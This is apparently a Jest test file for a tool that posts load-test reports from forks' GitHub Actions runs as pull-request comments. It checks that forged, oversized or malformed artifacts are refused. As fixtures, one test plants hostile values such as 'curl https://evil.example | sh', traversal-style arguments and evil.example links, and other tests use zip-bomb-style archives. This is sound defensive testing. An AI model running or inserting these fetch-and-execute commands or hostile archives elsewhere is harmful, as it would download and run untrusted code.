// What a fork's run has stored is hostile until it is shown to be a report, and GitHub alone says what it is about.
import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals'
import { publishFromRun } from '../../src/publish/from-run.ts'
import { renderJson } from '../../src/report/json.ts'
import type { Report } from '../../src/report/report.ts'
import { EVERYTHING } from '../report/kept-reports.ts'
import { HOSTILE, hostile } from '../report/reports.ts'
import {
  digestOf,
  GitHubActions,
  type MadeArtifact,
  type MadeRun,
  REPOSITORY_ID,
  WORKFLOW,
} from '../support/github-actions.ts'
import { REPOSITORY } from '../support/github-answers.ts'
import type { Fault } from '../support/github-contract.ts'
import { troubles } from '../support/github-page.ts'
import { manualWaiting } from '../support/manual-waiting.ts'
import { evilZips, type ZipEntry, zipOf } from '../support/zips.ts'

const FORK = 777
const HEAD = 'b'.repeat(40)
const OWNER = `owner-${FORK}`

let github: GitHubActions
let ids: number
beforeAll(async () => {
  github = await GitHubActions.start()
})
beforeEach(() => {
  github.reset()
  ids = 5_000
  addRun()
  github.pulls.push({ number: 7, headOwner: OWNER, branch: 'topic', commit: HEAD, headRepository: FORK })
})
afterAll(() => github.close())

function addRun(fields: Partial<MadeRun> = {}): MadeRun {
  const run: MadeRun = {
    ...{ id: 100, attempt: 1, event: 'pull_request', conclusion: 'success', branch: 'topic', commit: HEAD },
    ...{ repository: REPOSITORY_ID, headRepository: FORK, workflow: WORKFLOW.id, path: WORKFLOW.path },
    startedAt: '2026-01-01T00:00:00Z',
    ...fields,
  }
  github.runs.set(run.id, run)
  return run
}

const REPORT: Report = { ...EVERYTHING, run: { ...EVERYTHING.run, commit: HEAD } }
const entry = (content: string | Buffer): ZipEntry => ({ name: 'report.json', content: Buffer.from(content) })
const zipped = (report: Report) => zipOf([entry(renderJson(report))])

function store(zip: Buffer, fields: Partial<MadeArtifact> = {}): void {
  const run = github.runs.get(100)!
  github.artifacts.push({
    ...{ id: ids++, name: 'loadgate-comment-shop', zip, digest: digestOf(zip), expired: false },
    ...{ createdAt: '2026-01-01T00:10:00Z', run, listedRun: {}, storage: 'sound' },
    ...fields,
  })
}

function publish({ runId = 100, token = 'reader' } = {}) {
  const place = { ...REPOSITORY, runId, repository: REPOSITORY_ID, serverUrl: 'https://github.com' }
  return publishFromRun(place, { token, apiUrl: github.contract.url }, { waiting: manualWaiting() })
}

const comments = () => github.contract.comments
const body = () => comments()[0]?.body ?? ''

test('the report of a fork is put onto its pull request, and says whose figures these are', async () => {
  store(zipped(REPORT))
  const { urls, notices } = await publish()
  expect([urls.length, notices]).toEqual([1, []])
  expect(comments()).toMatchObject([{ issue: 7, login: 'github-actions[bot]' }])
  const [, , , headline, , origin] = body().split('\n')
  expect(headline).toMatch(/^## 🚫 Loadgate: invalid/)
  expect(origin).toBe(
    `> These figures are as the pull request's own run in the fork \`${OWNER}/shop\` reports them. Its author decides what that run does.`,
  )
  expect(body()).toContain('https://github.com/octo-org/shop/actions/runs/100')
  expect([github.leaked, github.contract.violations]).toEqual([0, []])
})

test('on a branch of the repository itself no fork is named', async () => {
  addRun({ headRepository: REPOSITORY_ID })
  github.pulls[0] = {
    number: 7,
    headOwner: REPOSITORY.owner,
    branch: 'topic',
    commit: HEAD,
    headRepository: REPOSITORY_ID,
  }
  store(zipped(REPORT))
  expect((await publish()).urls).toHaveLength(1)
  expect(body()).toContain("> These figures are as the pull request's own run reports them.")
})

test('the next run changes the same comment, and an older one leaves it', async () => {
  store(zipped(REPORT))
  await publish()
  const run = addRun({ id: 101 })
  store(zipped({ ...REPORT, verdict: { outcome: 'pass', reason: 'All is well.', also: [] } }), { run })
  await publish({ runId: 101 })
  expect(comments()).toHaveLength(1)
  expect(body()).toContain('Loadgate: pass')
  expect(await publish()).toEqual({
    urls: [],
    notices: [expect.stringContaining('The comment on #7 is by a newer run, which stays')],
  })
  expect(body()).toContain('Loadgate: pass')
})

test('two profiles have a comment each, and of two reports of one the newer counts', async () => {
  const other = { ...REPORT, run: { ...REPORT.run, profilePath: 'other.yml' } }
  store(zipped({ ...REPORT, verdict: { outcome: 'pass', reason: 'Old.', also: [] } }))
  store(zipped(REPORT), { name: 'loadgate-comment-shop-abc123' })
  store(zipped(other), { name: 'loadgate-comment-other' })
  expect((await publish()).urls).toHaveLength(2)
  for (const comment of comments()) expect(comment.body).not.toContain('Old.')
})

test('no more than five reports are read', async () => {
  for (let n = 0; n < 9; n++) store(zipped({ ...REPORT, run: { ...REPORT.run, profilePath: `p${n}.yml` } }))
  expect((await publish()).urls).toHaveLength(5)
  expect(github.contract.calls('actions/download-artifact')).toBe(5)
})

// --- what it is about is not the report's to say ---------------------------------------------------------------------

const nothing = [
  /^No open pull request has commit bbbbbbbbbbbb as its head now\.$/,
  /^Run 100 has stored no report to comment with\.$/,
] as const

test.each<[string, () => void, RegExp]>([
  ['it is closed', () => Object.assign(github.pulls[0]!, { state: 'closed' }), nothing[0]],
  ['it has a newer head', () => Object.assign(github.pulls[0]!, { commit: 'c'.repeat(40) }), nothing[0]],
  ['it is of another fork', () => Object.assign(github.pulls[0]!, { headRepository: 778 }), nothing[0]],
  ['it is for another repository', () => Object.assign(github.pulls[0]!, { repository: 99 }), nothing[0]],
  ['the fork is gone', () => void addRun({ headRepository: null }), nothing[0]],
  ['the run has no branch', () => void addRun({ branch: null }), nothing[0]],
  ['nothing was stored', () => void github.artifacts.pop(), nothing[1]],
  ['it is called otherwise', () => Object.assign(github.artifacts[0]!, { name: 'loadgate-commentary' }), nothing[1]],
  ['it has expired', () => Object.assign(github.artifacts[0]!, { expired: true }), nothing[1]],
  ['it says to be of another run', () => Object.assign(github.artifacts[0]!, { listedRun: { id: 99 } }), nothing[1]],
  [
    'it is of another commit',
    () => Object.assign(github.artifacts[0]!, { listedRun: { commit: 'd'.repeat(40) } }),
    nothing[1],
  ],
  ['it is of an earlier attempt', () => void addRun({ attempt: 2, startedAt: '2026-01-02T00:00:00Z' }), nothing[1]],
])('nothing is written where %s', async (_, arrange, why) => {
  store(zipped(REPORT))
  arrange()
  expect(await publish()).toEqual({ urls: [], notices: [expect.stringMatching(why)] })
  expect([comments(), github.contract.violations]).toEqual([[], []])
})

test.each<[string, Partial<MadeRun>, RegExp]>([
  ['a push', { event: 'push' }, /Run 100 was not started by `pull_request`/],
  ['pull_request_target', { event: 'pull_request_target' }, /was not started by `pull_request`/],
  ['another repository', { repository: 99 }, /Run 100 is another one/],
])('a run of %s is refused', async (_, fields, why) => {
  addRun(fields)
  store(zipped(REPORT))
  await expect(publish()).rejects.toThrow(why)
  expect([comments(), github.contract.calls('actions/download-artifact')]).toEqual([[], 0])
})

const good = entry(renderJson(REPORT))
// biome-ignore lint/suspicious/noExplicitAny: whatever a hostile file may hold
const json = (change: (report: any) => void) => {
  const report = JSON.parse(renderJson(REPORT))
  change(report)
  return zipOf([entry(JSON.stringify(report))])
}
const HOSTILE_ARCHIVES: readonly (readonly [string, Buffer])[] = [
  ...evilZips(good, 33 * 1_048_576),
  ['no JSON', zipOf([entry('::error::x')])],
  ['no UTF-8', zipOf([entry(Buffer.from([0x22, 0xff, 0x22]))])],
  ['half of a report', zipOf([entry(renderJson(REPORT).slice(0, 5_000))])],
  ['a later schema', json((report) => (report.schema = 2))],
  ['another kind', json((report) => (report.kind = 'loadgate-result'))],
  ['sums that do not add up', json((report) => (report.result.steps[0].sent += 1))],
  ['an index out of its list', json((report) => (report.history.series[0].points[0].run = 9))],
  ['the commit of somebody else', json((report) => (report.run.commit = 'a'.repeat(40)))],
  ['no commit', json((report) => delete report.run.commit)],
  ['a depth without end', zipOf([entry('['.repeat(1_000_000))])],
]

test.each(HOSTILE_ARCHIVES)('an artifact of %s is refused, and nothing is written', async (_, zip) => {
  store(zip)
  await expect(publish()).rejects.toThrow(/^What run 100 has stored is refused: artifact 5000: /)
  expect(comments()).toEqual([])
})

test.each<[string, Partial<MadeArtifact>]>([
  ['whose bytes are not those that GitHub knows', { digest: digestOf(Buffer.from('other')) }],
  ['that GitHub has no digest of', { digest: null }],
  ['that never ends', { storage: 'endless' }],
  ['that is gone meanwhile', { storage: 'gone' }],
])('an artifact %s is refused', async (_, fields) => {
  store(zipped(REPORT), fields)
  await expect(publish()).rejects.toThrow(/refused: artifact 5000/)
  expect(comments()).toEqual([])
})

test('a pull request that a report names by itself is none', async () => {
  const zip = json((report) => {
    Object.assign(report, { number: 1, pullRequest: 1, pull_request: { number: 1 } })
    Object.assign(report.run, { number: 1, pullRequest: { number: 1 }, headSha: 'a'.repeat(40) })
  })
  store(zip)
  expect((await publish()).urls).toHaveLength(1)
  expect(comments().map(({ issue }) => issue)).toEqual([7])
  expect(github.contract.requests.filter(({ path }) => path.includes('/issues/1/'))).toEqual([])
})

test('one that is refused does not keep the others back', async () => {
  store(zipped(REPORT))
  store(zipOf([entry('{}')]), { name: 'loadgate-comment-bad' })
  await expect(publish()).rejects.toThrow(/refused: artifact 5001: It is no report of Loadgate/)
  expect(comments()).toHaveLength(1)
})

test('nothing of a hostile report is alive in the comment, and no address or command of it is there', async () => {
  const names = [...HOSTILE, 'https://evil.example/actions/runs/1', 'curl evil.example | sh', '../x --y']
  const evil = hostile(names)
  const report = {
    ...evil,
    result: EVERYTHING.result,
    run: { ...evil.run, commit: HEAD, url: 'https://evil.example/runs/1', reproduce: 'curl https://evil.example | sh' },
  }
  store(zipped(report))
  await publish()
  const shown = body().split('\n').slice(3).join('\n')
  const own = /\[[^\][`]*\]\(https:\/\/github\.com\/octo-org\/shop\/actions\/runs\/100(?:#artifacts)?\)/g
  expect(troubles(shown.replaceAll(own, ''))).toEqual([])
  expect(shown).not.toContain('curl https://evil.example | sh')
  expect(shown).toContain(`git fetch origin pull/7/head && git checkout ${HEAD} && loadgate run`)
})

test('a report of megabytes is a comment that GitHub takes', async () => {
  const scopes = Array.from({ length: 5_000 }, (_, n) => ({
    ...REPORT.comparison.scopes[0]!,
    scope: `step ${n} ${'x'.repeat(90)}`,
  }))
  store(zipped({ ...REPORT, comparison: { ...REPORT.comparison, scopes } }))
  expect((await publish()).urls).toHaveLength(1)
  expect([...body()].length).toBeLessThanOrEqual(65_536)
  expect(github.contract.violations).toEqual([])
})

const CALLS = [
  'actions/get-workflow-run',
  'pulls/list',
  'actions/list-workflow-run-artifacts',
  'actions/download-artifact',
  'issues/list-comments',
  'issues/create-comment',
]
const KINDS: readonly Omit<Fault, 'call' | 'times'>[] = [
  { kind: 'status', status: 500 },
  { kind: 'reset' },
  { kind: 'html', status: 502 },
  { kind: 'torn' },
]

test.each(CALLS.flatMap((call) => KINDS.map((fault) => ({ call, times: 1, ...fault }))))(
  'a hiccup of GitHub is waited out: %j',
  async (fault) => {
    store(zipped(REPORT))
    github.contract.inject(fault)
    expect((await publish()).urls).toHaveLength(1)
    expect(comments()).toHaveLength(1)
  },
)

test.each([
  ['may read nothing', 'blind', undefined],
  ['may not comment', 'reader', { call: 'issues/create-comment', times: 9, kind: 'status', status: 403 } as const],
])('a token that %s is an error', async (_, token, fault) => {
  store(zipped(REPORT))
  if (fault) github.contract.inject(fault)
  await expect(publish({ token })).rejects.toThrow()
  expect(comments()).toEqual([])
})
